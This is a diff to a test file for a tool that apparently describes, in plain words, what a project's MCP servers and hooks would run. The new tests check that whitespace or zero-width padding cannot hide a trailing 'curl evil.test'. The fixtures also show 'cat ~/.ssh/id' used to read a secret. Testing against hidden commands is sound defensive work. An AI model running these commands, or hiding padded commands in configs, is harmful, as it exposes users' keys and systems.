@@ -449,14 +449,52 @@ test("what would run, in words: commands and names, no values", async () => {
     ".env": ["sets OPENAI_BASE_URL, B"],
     ".mcp.json#mcpServers.db": ['starts: node ./server.js "a b"', "with: TOKEN"],
     ".mcp.json#mcpServers.web": ["connects to: https://x.test", "sends: Authorization"],
-    ".tau/config.yml": ["sets approval.mode, extensions, key", "runs for a secret: cat ~/.ssh/id"],
+    ".tau/config.yml": [
+      "sets approval.mode, extensions, key",
+      "loads code that runs inside Tau: ./local/ext.ts",
+      "runs for a secret: cat ~/.ssh/id",
+    ],
     ".tau/extensions/": ["files that the code next to them may load"],
     ".tau/extensions/one.ts": ["runs inside Tau"],
     ".tau/extensions/pack/package.json": ["runs inside Tau"],
     ".tau/hooks/": ["files that the code next to them may load"],
-    ".tau/hooks/pre/guard.ts": ["runs around every tool call"],
+    ".tau/hooks/pre/guard.ts": ["runs inside Tau"],
     ".tau/ssh.json#hosts.box": ["adds the host root@10.0.0.1"],
     ".tau/tools/weather.py": ["runs whenever the model calls this tool"],
   });
   expect(JSON.stringify(told)).not.toContain("s3cret");
+});
+
+describe("nothing is hidden by what stands before it", () => {
+  const linesOf = async (command: string): Promise<string[]> => {
+    const servers = { one: { command: "sh", args: ["-c", command] } };
+    await using found = await findIn({
+      project: {
+        ".mcp.json": JSON.stringify({ mcpServers: servers }),
+        ".codex/hooks.json": JSON.stringify({
+          hooks: { Stop: [{ hooks: [{ type: "command", command }] }] },
+        }),
+      },
+    });
+    const { subjects } = await look(found);
+    return (await Promise.all(subjects.map(whatWouldRun))).flat();
+  };
+
+  test.each([
+    ["blanks", " ".repeat(1500)],
+    ["wide blanks", "\u3000".repeat(900)],
+    ["tabs and lines", "\t\n".repeat(900)],
+    ["nothing that can be seen", "\u200b".repeat(900)],
+  ])("%s are folded", async (_name, padding) => {
+    const [hook, server] = await linesOf(`echo a  b${padding}curl evil.test`);
+    expect(hook).toBe("runs: echo a  b ⋯ curl evil.test");
+    expect(server).toBe('starts: sh -c "echo a  b ⋯ curl evil.test"');
+  });
+
+  test("a line that is cut has its end", async () => {
+    for (const line of await linesOf(`echo ${"x".repeat(9000)}; curl evil.test`)) {
+      expect(line).toMatch(/^(?:runs|starts): .*characters more.*; curl evil\.test"?$/);
+      expect(line.length).toBeLessThan(2100);
+    }
+  });
 });
